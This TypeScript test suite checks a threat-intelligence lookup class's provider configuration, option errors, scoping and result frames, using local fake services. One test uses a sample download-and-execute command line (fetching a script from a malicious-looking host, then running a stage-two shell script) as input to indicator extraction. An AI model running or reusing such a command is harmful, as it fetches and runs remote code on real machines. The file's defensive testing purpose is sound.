/** TILookup's API: loading, status, provider selection, options and their errors, the result frame. */
import { test } from "node:test";
import assert from "node:assert/strict";
import pl from "nodejs-polars";
import { inspect } from "node:util";
import fs from "node:fs";
import { spawn } from "node:child_process";
import path from "node:path";
import { HuntlabError } from "../../src/common/errors";
import { TILookup, TI_RESULT_COLUMNS } from "../../src/context/tiLookup";
import { IoCExtract } from "../../src/transform/iocExtract";
import { JUPYTER_DISPLAY } from "../../src/display/protocol";
import { byIoc, rowsOf } from "./tiHelpers";
import * as svc from "./tiServices";
import { FAKE_KEY, startTwin, tempDir, writeConfig } from "./tiTwins";

function lookupOver(providers: Record<string, unknown>, options: { providers?: string[]; warn?: (message: string) => void } = {}): TILookup {
  return new TILookup({ configPath: writeConfig(tempDir(), providers), ...options });
}

const LOCAL = { Provider: "LocalTI", Primary: true };

test("result columns and types, also for an empty input", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  for (const df of [await ti.lookupIocs(["131.107.147.209"]), await ti.lookupIocs([])]) {
    assert.deepEqual(df.columns, [...TI_RESULT_COLUMNS]);
    assert.deepEqual(
      df.dtypes.map((d) => d.variant),
      ["String", "String", "String", "String", "String", "Bool", "String", "String", "String", "String", "Int32"],
    );
  }
});

test("unknown configured provider class: listed as not loaded, with a suggestion, and warned of when the config is read", () => {
  const warnings: string[] = [];
  const ti = lookupOver(
    {
      LocalTI: LOCAL,
      GN: { Provider: "GreyNose", Args: { AuthKey: "" } },
      // MSTICPy's providers huntlab does not have, one primary; a known one not loaded (a KeyVault key) is no warning.
      RiskIQ: { Provider: "RiskIQ", Primary: true, Args: { ApiID: "x", AuthKey: FAKE_KEY } },
      VT: { Provider: "VirusTotal", Args: { AuthKey: { KeyVault: { VaultName: "v" } } } },
    },
    { warn: (m) => warnings.push(m) },
  );
  const gn = ti.providerStatus.find((s) => s.name === "GN")!;
  assert.equal(gn.loaded, false);
  assert.match(gn.detail, /^Unknown provider class "GreyNose"\. Did you mean GreyNoise\? Available: AbuseIPDB, GreyNoise, LocalTI/);
  assert.deepEqual(Object.keys(ti.loadedProviders), ["LocalTI"]);
  // Only the status table said so: lookups went on without RiskIQ, a primary, and printed nothing.
  assert.deepEqual(warnings, [
    "TIProviders.GN: Provider GreyNose is not one huntlab has, so it is not loaded and lookups do not ask it. Did you mean GreyNoise? Available: AbuseIPDB, GreyNoise, LocalTI, OPR, OTX, Tor, VirusTotal, XForce.",
    "TIProviders.RiskIQ: Provider RiskIQ is not one huntlab has, so it is not loaded and lookups do not ask it. Available: AbuseIPDB, GreyNoise, LocalTI, OPR, OTX, Tor, VirusTotal, XForce.",
  ]);
  ti.reloadProviders();
  assert.equal(warnings.length, 4, "said again when the config is read again");
  // Not loading it, not warned of it.
  const only: string[] = [];
  lookupOver({ LocalTI: LOCAL, RiskIQ: { Provider: "RiskIQ" } }, { providers: ["LocalTI"], warn: (m) => only.push(m) });
  assert.deepEqual(only, []);
});

test("a KeyVault secret: the provider is not loaded, the others are", () => {
  const ti = lookupOver({ LocalTI: LOCAL, VT: { Provider: "VirusTotal", Args: { AuthKey: { KeyVault: { VaultName: "v" } } } } });
  const vt = ti.providerStatus.find((s) => s.name === "VT")!;
  assert.equal(vt.loaded, false);
  assert.equal(vt.detail, "Not loaded: AuthKey: KeyVault secrets are not supported; use a literal or EnvironmentVar.");
  assert.deepEqual(Object.keys(ti.loadedProviders), ["LocalTI"]);
});

test("an Args value of a shape huntlab does not read (MSTICPy's test configs' { KeyVaultURI: … }): that provider is not loaded, naming the setting; the others are (the whole config was refused)", () => {
  const vault = { KeyVaultURI: "https://contoso.vault.azure.net/secrets/kvname/kvsecretId" };
  const ti = lookupOver({ LocalTI: LOCAL, VT: { Provider: "VirusTotal", Args: { ApiID: vault, AuthKey: vault } } });
  const vt = ti.providerStatus.find((s) => s.name === "VT")!;
  assert.equal(vt.loaded, false);
  assert.match(vt.detail, /^Not loaded: ApiID: a mapping is not a setting huntlab reads: write the value as text, ApiID: thevalue, or name the environment variable that holds it, ApiID: \{ EnvironmentVar: NAME \}; AuthKey: /);
  assert.ok(!vt.detail.includes("contoso"));
  assert.deepEqual(Object.keys(ti.loadedProviders), ["LocalTI"]);
});

test("aliases in Provider:, ignored settings are reported with suggestions", () => {
  const ti = lookupOver({ AV: { Provider: "AlienVault", Args: { AuthKey: FAKE_KEY, Colour: "blue" }, Timeout: 5 } });
  const [av] = ti.providerStatus;
  assert.deepEqual([av.provider, av.loaded], ["OTX", true]);
  assert.match(av.detail, /ignored Args: Colour/);
  assert.match(av.detail, /ignored setting Timeout \(did you mean TimeoutSeconds\?\)/);
});

test("the providers option: loads only those; unknown names throw with a suggestion; Enabled: false loads when named", () => {
  const providers = { LocalTI: LOCAL, Tor: { Provider: "Tor", Enabled: false } };
  assert.deepEqual(Object.keys(lookupOver(providers).loadedProviders), ["LocalTI"]);
  assert.deepEqual(Object.keys(lookupOver(providers, { providers: ["LocalTI", "Tor"] }).loadedProviders), ["LocalTI", "Tor"]);
  assert.throws(
    () => lookupOver(providers, { providers: ["Localti"] }),
    (err: Error) => err instanceof HuntlabError && err.code === "context/provider-not-configured" && /"Localti" .*msticpyconfig\.yaml.* Did you mean LocalTI\?/.test(err.message),
  );
});

test("lookups: unknown or unloaded provider names are errors; primary scope by default, 'all' on request", async () => {
  const twin = await startTwin(svc.greyNoiseCommunity);
  try {
    const ti = lookupOver({ LocalTI: LOCAL, GreyNoise: { Provider: "GreyNoise", Args: { AuthKey: FAKE_KEY }, BaseUrl: twin.url }, VT: { Provider: "VirusTotal", Args: { AuthKey: "" } } });
    assert.deepEqual(rowsOf(await ti.lookupIoc("45.83.66.10")).map((r) => r.Provider), ["LocalTI"]);
    assert.deepEqual(rowsOf(await ti.lookupIoc("45.83.66.10", { provScope: "all" })).map((r) => r.Provider), ["LocalTI", "GreyNoise"]);
    assert.deepEqual(rowsOf(await ti.lookupIoc("45.83.66.10", { providers: ["GreyNoise"] })).map((r) => r.Severity), ["high"]);
    await assert.rejects(ti.lookupIoc("1.2.3.4", { providers: ["GreyNoize"] }), {
      name: "TILookupError",
      code: "context/unknown-provider",
      message: /"GreyNoize"; loaded: LocalTI, GreyNoise\. Did you mean GreyNoise\?/,
    });
    // The status names the setting that is missing.
    await assert.rejects(ti.lookupIoc("1.2.3.4", { providers: ["VT"] }), { code: "context/provider-not-loaded", message: /"VT" .*AuthKey/ });
  } finally {
    await twin.close();
  }
});

test("lookup options from untyped cells: a misspelt name, a provider name as text, an unknown scope are errors (other providers answered, or a TypeError)", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const bad: [unknown, RegExp][] = [
    [{ provider: ["LocalTI"] }, /lookupIocs: unknown option provider \(did you mean providers\?\)/],
    [{ iocTypes: "ipv4" }, /unknown option iocTypes \(did you mean iocType\?\)/],
    [{ providers: "LocalTI" }, /option providers must be a non-empty list of provider names .*got "LocalTI" \(text\)/],
    [{ providers: [] }, /option providers must be a non-empty list/],
    [{ provScope: "All" }, /option provScope must be "primary" or "all"; got "All" \(text\)/],
  ];
  for (const [options, message] of bad) {
    await assert.rejects(ti.lookupIocs(["1.2.3.4"], options as object), { name: "TILookupError", code: "context/lookup-option", message }, JSON.stringify(options));
  }
  await assert.rejects(ti.lookupIoc("1.2.3.4", { obsCol: "x" } as object), { code: "context/lookup-option", message: /lookupIoc: unknown option obsCol/ });
  assert.equal(rowsOf(await ti.lookupIocs(["1.2.3.4"], { provScope: "all", progress: false })).length, 1);
});

test("new TILookup from untyped cells: MSTICPy's positional path or provider list, a snake_case or misspelt name, a provider as text, null are errors (the default config loaded, or a TypeError)", () => {
  const configPath = writeConfig(tempDir(), { LocalTI: LOCAL });
  const bad: [unknown, RegExp][] = [
    [{ config_path: "/nonexistent.yaml" }, /^new TILookup: unknown option config_path \(did you mean configPath\?\); its options are providers, configPath, cacheDir, warn\.$/],
    [{ configPath, provider: ["LocalTI"] }, /unknown option provider \(did you mean providers\?\)/],
    [{ configPath, providers: "LocalTI" }, /option providers must be a non-empty list of provider names \(e\.g\. \["LocalTI"\]\); got "LocalTI" \(text\)/],
    [{ configPath, providers: [undefined] }, /option providers must be a non-empty list/],
    [{ configPath: 5 }, /option configPath must be the path of a msticpyconfig\.yaml \(text\); got 5/],
    [{ configPath, warn: "console" }, /option warn must be a function/],
    ["/nonexistent.yaml", /^new TILookup: takes an options object such as \{ configPath: .*, not text \(17 characters\)\.$/],
    [["LocalTI"], /takes an options object .*, not an array of 1 value/],
    [null, /takes an options object .*, not null/],
  ];
  for (const [options, message] of bad) {
    assert.throws(() => new TILookup(options as object), { name: "TILookupError", code: "context/lookup-option", message }, JSON.stringify(options));
  }
  assert.equal(new TILookup({ configPath, providers: ["LocalTI"], cacheDir: undefined }).configFile, configPath);
});

test("lookupIoc takes one observable, as MSTICPy's lookup_ioc: a list, a frame, an object or nothing is an error, not an empty table", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const many = /^lookupIoc: looks up one observable, given as text, not (an array of 1 value|a DataFrame); for several, use lookupIocs\(/;
  for (const [input, message] of [
    [["131.107.147.209"], many],
    [pl.DataFrame({ ip: ["131.107.147.209"] }), many],
    [{ Ioc: "131.107.147.209" }, /not a plain object \(one row\? make a DataFrame of it: `pl\.DataFrame\(\[row\]\)`\)\.$/],
    [undefined, /not undefined \(a variable never set, or a call that returned nothing\)\.$/],
    [Promise.resolve("131.107.147.209"), /not a Promise: a query \(or another async call\) not awaited; put `await` before it/],
  ] as [unknown, RegExp][]) {
    await assert.rejects(ti.lookupIoc(input as string, { progress: false }), { name: "TILookupError", code: "context/lookup-input-invalid", message });
  }
  assert.equal(rowsOf(await ti.lookupIoc("131.107.147.209", { progress: false }))[0].Severity, "high");
});

test("lookupIocs: rows (objects) or nested lists in the list are an error naming the item, not dropped; nulls are skipped", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  await assert.rejects(ti.lookupIocs([{ Ioc: "131.107.147.209" }] as never, { progress: false }), {
    code: "context/lookup-input-invalid",
    message: /^lookupIocs: item 0 of the list is a plain object \(one row\? make a DataFrame of it: `pl\.DataFrame\(\[row\]\)`\); .*lookupIocs\(pl\.DataFrame\(rows\), \{ obsCol: "Ioc" \}\)/,
  });
  await assert.rejects(ti.lookupIocs(["8.8.8.8", ["131.107.147.209"]] as never, { progress: false }), { code: "context/lookup-input-invalid", message: /item 1 of the list is an array of 1 value/ });
  await assert.rejects(ti.lookupIocs(pl.DataFrame({ ip: ["1.2.3.4"] }).lazy() as never), { code: "context/lookup-input-invalid", message: /not a LazyDataFrame: collect it first/ });
  assert.deepEqual(rowsOf(await ti.lookupIocs(["131.107.147.209", null, ""] as never, { progress: false })).map((r) => r.Ioc), ["131.107.147.209"]);
});

test("lookup option values of the wrong kind are errors naming the option (a TypeError inside, or ignored)", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const df = pl.DataFrame({ ip: ["1.2.3.4"], n: [1] });
  const bad: [Record<string, unknown>, RegExp][] = [
    [{ iocType: 4 }, /option iocType must be an IoC type name such as "ipv4" \(text\); got 4/],
    [{ obsCol: ["ip"] }, /option obsCol must be one column name \(text\); got a list/],
    [{ obsCol: "ip", iocTypeCol: 1 }, /option iocTypeCol must be one column name/],
    [{ obsCol: "ip", progress: "no" }, /option progress must be true or false; got "no" \(text\)/],
    [{ obsCol: "ip", interrupt: false }, /option interrupt must be "kernel" or "never"/],
    [{ obsCol: "ip", signal: {} }, /option signal must be an AbortSignal/],
  ];
  for (const [options, message] of bad) {
    await assert.rejects(ti.lookupIocs(df, options), { code: "context/lookup-option", message }, JSON.stringify(options));
  }
});

test("no primary provider: every loaded one is asked; nothing loaded: a clear error", async () => {
  const ti = lookupOver({ LocalTI: { Provider: "LocalTI" } });
  assert.equal(rowsOf(await ti.lookupIoc("131.107.147.209"))[0].Provider, "LocalTI");
  const none = lookupOver({ VT: { Provider: "VirusTotal", Args: { AuthKey: "" } } });
  await assert.rejects(none.lookupIocs(["1.2.3.4"]), { code: "context/no-providers-loaded", message: /msticpyconfig\.yaml:\n  VT: .*AuthKey/ });
});

test("providers written Primary: false are not asked by a lookup that names none: all so written is an error naming the setting, as MSTICPy asks none", async () => {
  // They were all asked ("a config that marks no provider primary has every loaded one asked"), spending a quota kept for named lookups.
  const twin = await startTwin(svc.virusTotal);
  try {
    const ti = lookupOver({
      LocalTI: { Provider: "LocalTI", Primary: false },
      VirusTotal: { Provider: "VirusTotal", Primary: false, Args: { AuthKey: FAKE_KEY }, BaseUrl: twin.url },
    });
    await assert.rejects(ti.lookupIoc("8.8.8.8"), {
      name: "TILookupError",
      code: "context/all-secondary",
      message: /is written Primary: false \(TIProviders\.LocalTI\.Primary, TIProviders\.VirusTotal\.Primary\).*providers: \["LocalTI", "VirusTotal"\] or provScope: "all"/,
    });
    assert.equal(twin.requests.length, 0, "the indicator went to a secondary provider");
    assert.deepEqual(rowsOf(await ti.lookupIoc("8.8.8.8", { provScope: "all" })).map((r) => r.Provider).sort(), ["LocalTI", "VirusTotal"]);
    assert.equal(twin.requests.length, 1);
    // One leaves Primary out: it alone is asked.
    const mixed = lookupOver({
      LocalTI: { Provider: "LocalTI" },
      VirusTotal: { Provider: "VirusTotal", Primary: false, Args: { AuthKey: FAKE_KEY }, BaseUrl: twin.url },
    });
    assert.deepEqual(rowsOf(await mixed.lookupIoc("131.107.147.209")).map((r) => r.Provider), ["LocalTI"]);
    assert.equal(twin.requests.length, 1, "the secondary provider was asked");
  } finally {
    await twin.close();
  }
});

test("the primary providers all not loaded (a key unset): the non-primary ones are not asked in their place; the error says why, and naming them asks them", async () => {
  const twin = await startTwin(svc.virusTotal);
  delete process.env.HL_TEST_UNSET_OTX_KEY;
  try {
    const ti = lookupOver({
      OTX: { Provider: "OTX", Primary: true, Args: { AuthKey: { EnvironmentVar: "HL_TEST_UNSET_OTX_KEY" } } },
      VirusTotal: { Provider: "VirusTotal", Primary: false, Args: { AuthKey: FAKE_KEY }, BaseUrl: twin.url },
    });
    await assert.rejects(ti.lookupIoc("8.8.8.8"), {
      name: "TILookupError",
      code: "context/no-primary-loaded",
      message: /no primary TI provider is loaded from .*msticpyconfig\.yaml.*\n  OTX: Not loaded: AuthKey: environment variable HL_TEST_UNSET_OTX_KEY is not set.*\n.*providers: \["VirusTotal"\] or provScope: "all"/s,
    });
    await assert.rejects(ti.lookupIocs(["8.8.8.8", "evil.example"]), { code: "context/no-primary-loaded" });
    assert.equal(twin.requests.length, 0, "the indicator went to the non-primary provider");
    // Named, or with provScope "all", it is asked.
    assert.deepEqual(rowsOf(await ti.lookupIoc("8.8.8.8", { providers: ["VirusTotal"] })).map((r) => r.Provider), ["VirusTotal"]);
    assert.deepEqual(rowsOf(await ti.lookupIoc("8.8.4.4", { provScope: "all" })).map((r) => r.Provider), ["VirusTotal"]);
    assert.equal(twin.requests.length, 2);
  } finally {
    await twin.close();
  }
});

test("reloadProviders picks up a key set in the environment", async () => {
  const twin = await startTwin(svc.greyNoiseCommunity);
  delete process.env.HL_TEST_RELOAD_KEY;
  try {
    const ti = lookupOver({ GreyNoise: { Provider: "GreyNoise", Args: { AuthKey: { EnvironmentVar: "HL_TEST_RELOAD_KEY" } }, BaseUrl: twin.url } });
    assert.equal(ti.providerStatus[0].loaded, false);
    process.env.HL_TEST_RELOAD_KEY = FAKE_KEY;
    ti.reloadProviders();
    assert.equal(ti.providerStatus[0].loaded, true);
    assert.equal(rowsOf(await ti.lookupIoc("45.83.66.10"))[0].Severity, "high");
    assert.equal(twin.requests[0].headers.key, FAKE_KEY);
  } finally {
    delete process.env.HL_TEST_RELOAD_KEY;
    await twin.close();
  }
});

test("DataFrame input: obsCol required for several columns, suggestions for typos, iocTypeCol", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const df = pl.DataFrame({ Value: ["wh401k.org", "131.107.147.209", "wh401k.org"], Kind: ["dns", "", "ipv4"], Other: [1, 2, 3] });
  await assert.rejects(ti.lookupIocs(df), { code: "context/lookup-column-missing", message: /obsCol \(columns: Value, Kind, Other\)/ });
  await assert.rejects(ti.lookupIocs(df, { obsCol: "value" }), { code: "context/lookup-column-missing", message: /"value" \(obsCol\)\. Did you mean Value\?/ });
  await assert.rejects(ti.lookupIocs(df, { obsCol: "Value", iocTypeCol: "Knd" }), { code: "context/lookup-column-missing", message: /"Knd" \(iocTypeCol\)\. Did you mean Kind\?/ });
  const rows = rowsOf(await ti.lookupIocs(df, { obsCol: "Value", iocTypeCol: "Kind" }));
  assert.deepEqual(rows.map((r) => [r.Ioc, r.IocType, r.Status]), [["wh401k.org", "dns", 0], ["131.107.147.209", "ipv4", 0], ["wh401k.org", "ipv4", 2]]);
  assert.equal(rows[2].Details, '"wh401k.org" is not a valid ipv4.');
  // A one-column frame needs no obsCol; iocCol is MSTICPy v3's spelling.
  assert.equal((await ti.lookupIocs(pl.DataFrame({ ip: ["131.107.147.209"] }))).height, 1);
  assert.equal((await ti.lookupIocs(df, { iocCol: "Value" })).height, 2);
  // A list column (a flow's PublicIPs): each element is an observable; a list of types is refused, naming it.
  const flows = pl.DataFrame({ PublicIPs: [["131.107.147.209", "198.51.100.7"], ["131.107.147.209"], null, []], Kind: ["ipv4", "ipv4", "ipv4", "ipv4"] });
  assert.deepEqual(rowsOf(await ti.lookupIocs(flows, { obsCol: "PublicIPs", iocTypeCol: "Kind" })).map((r) => [r.Ioc, r.IocType]), [["131.107.147.209", "ipv4"], ["198.51.100.7", "ipv4"]]);
  await assert.rejects(ti.lookupIocs(flows.withColumns(pl.col("PublicIPs").alias("Kind")), { obsCol: "PublicIPs", iocTypeCol: "Kind" }), { name: "TILookupError", code: "context/lookup-column-missing", message: /iocTypeCol "Kind" holds lists/ });
});

test("iocType option and unknown type names", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const [asDomain] = rowsOf(await ti.lookupIoc("wh401k.org", { iocType: "domain" }));
  assert.deepEqual([asDomain.IocType, asDomain.Severity], ["dns", "high"]);
  const [bad] = rowsOf(await ti.lookupIoc("wh401k.org", { iocType: "colour" }));
  assert.deepEqual([bad.Status, bad.Details], [2, 'Unknown IoC type "colour".']);
});

test("IoCExtract's results as they come (IoCType as iocTypeCol): its path types are not supported, not unknown type names", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const text = String.raw`iwr http://wh401k.org/getps -o C:\Users\Public\a.ps1; sh /tmp/stage2.sh`;
  const iocs = new IoCExtract().extract(pl.DataFrame({ cmd: [text] }), { columns: ["cmd"], iocTypes: ["url", "windows_path", "linux_path"] });
  const rows = byIoc(rowsOf(await ti.lookupIocs(iocs, { obsCol: "Observable", iocTypeCol: "IoCType" })));
  assert.deepEqual(Object.keys(rows).sort(), ["/tmp/stage2.sh", String.raw`C:\Users\Public\a.ps1`, "http://wh401k.org/getps", "wh401k.org"]);
  assert.equal(rows["http://wh401k.org/getps"].Status, 0);
  for (const [path, type] of [[String.raw`C:\Users\Public\a.ps1`, "windows_path"], ["/tmp/stage2.sh", "linux_path"]]) {
    // It said 'Unknown IoC type "windows_path".' (Status 2), of huntlab's own type name.
    assert.deepEqual([rows[path].IocType, rows[path].Status], [type, 1], path);
    assert.match(rows[path].Details, new RegExp(`^LocalTI does not look up ${type} \\(it handles `), path);
  }
});

test("a provider that throws does not kill the batch", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const provider = ti.loadedProviders.LocalTI;
  provider.lookup = async () => {
    throw new Error("boom");
  };
  const rows = rowsOf(await ti.lookupIocs(["1.2.3.4", "wh401k.org"]));
  assert.deepEqual(rows.map((r) => [r.Status, r.Details]), [[3, "LocalTI failed: boom"], [3, "LocalTI failed: boom"]]);
});

test("progress: a summary line with counts per outcome (printed as text outside a notebook), quiet by default", async () => {
  const twin = await startTwin(svc.greyNoiseCommunity);
  try {
    const configPath = writeConfig(tempDir(), { LocalTI: LOCAL, GreyNoise: { Provider: "GreyNoise", Primary: true, Args: { AuthKey: FAKE_KEY }, BaseUrl: twin.url, Retries: 0 } });
    const child = spawn(process.execPath, ["--import", "tsx", path.join(__dirname, "fixtures", "progressRun.ts"), configPath], { stdio: ["ignore", "pipe", "pipe"] });
    let out = "";
    let err = "";
    child.stdout.on("data", (d: Buffer) => (out += d.toString()));
    child.stderr.on("data", (d: Buffer) => (err += d.toString()));
    const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
    assert.equal(code, 0, err);
    assert.equal(err, "");
    const [progress, quiet] = out.split("--- quiet run ---\n");
    const final = progress.slice(progress.lastIndexOf("LocalTI: "));
    assert.match(final, /^LocalTI: 5\/5 \(found 2, not found 2, not looked up 1, failed 0, cached 0\)$/m);
    assert.match(final, /^GreyNoise: 5\/5 \(found 1, not found 1, not looked up 2, failed 1, cached 0\)$/m);
    assert.match(final, /TI lookup done in [\d.]+ s: 5 observables × 2 providers \(LocalTI, GreyNoise\) → 3 found \(high 3\), 3 not found, 3 not looked up, 1 failed; 0 from cache\./);
    assert.equal(quiet, "--- end ---\n");
  } finally {
    await twin.close();
  }
});

test("display(ti) shows the status table; inspect is one line", () => {
  const ti = lookupOver({ LocalTI: LOCAL, "<b>x</b>": { Provider: "Nope" } });
  const bundle = ti[JUPYTER_DISPLAY]();
  const html = bundle["text/html"] as string;
  assert.match(html, /1 of 2 providers loaded/);
  assert.ok(html.includes("&lt;b&gt;x&lt;/b&gt;") && !html.includes("<b>x</b>"));
  assert.match(bundle["text/plain"] as string, /^TILookup: 1 of 2 providers loaded from /);
  assert.equal(inspect(ti), "TILookup { loaded: [LocalTI], configured: 2 }");
  assert.match(inspect(ti.loadedProviders.LocalTI), /^LocalTI provider "LocalTI" \(primary\)$/);
});

test("rows keep the first spelling of each distinct value, in input order", async () => {
  const ti = lookupOver({ LocalTI: LOCAL });
  const r = byIoc(rowsOf(await ti.lookupIocs(["WH401K.org", "131.107.147.209", "wh401k.org"])));
  assert.deepEqual(Object.keys(r), ["WH401K.org", "131.107.147.209", "wh401k.org"]);
  assert.equal(r["WH401K.org"].SafeIoc, "wh401k.org");
});

test("a reload that fails (bad YAML) throws and keeps the old providers working", async () => {
  const twin = await startTwin(svc.greyNoiseCommunity);
  try {
    const dir = tempDir();
    const file = writeConfig(dir, { GreyNoise: { Provider: "GreyNoise", Args: { AuthKey: FAKE_KEY }, BaseUrl: twin.url } });
    const ti = new TILookup({ configPath: file });
    assert.equal(rowsOf(await ti.lookupIoc("45.83.66.10"))[0].Severity, "high");
    const provider = ti.loadedProviders.GreyNoise;
    let closed = 0;
    const close = provider.close.bind(provider);
    provider.close = () => {
      closed++;
      close();
    };
    const good = fs.readFileSync(file, "utf8");
    fs.writeFileSync(file, "TIProviders:\n  GreyNoise: [unclosed\n");
    assert.throws(() => ti.reloadProviders(), (err: unknown) => err instanceof HuntlabError);
    assert.equal(closed, 0, "a failed reload must not close the providers in use");
    assert.equal(ti.loadedProviders.GreyNoise, provider);
    assert.equal(ti.providerStatus[0].loaded, true);
    // The old provider still asks the service (its connections were not closed by the failed reload).
    const again = rowsOf(await ti.lookupIoc("45.83.66.11"));
    assert.match(String(again[0].Details), /not observed scanning/);
    assert.equal(twin.requests.length, 2);
    fs.writeFileSync(file, good);
    ti.reloadProviders();
    assert.equal(closed, 1);
    assert.notEqual(ti.loadedProviders.GreyNoise, provider);
    assert.equal(rowsOf(await ti.lookupIoc("45.83.66.10"))[0].Severity, "high");
  } finally {
    await twin.close();
  }
});
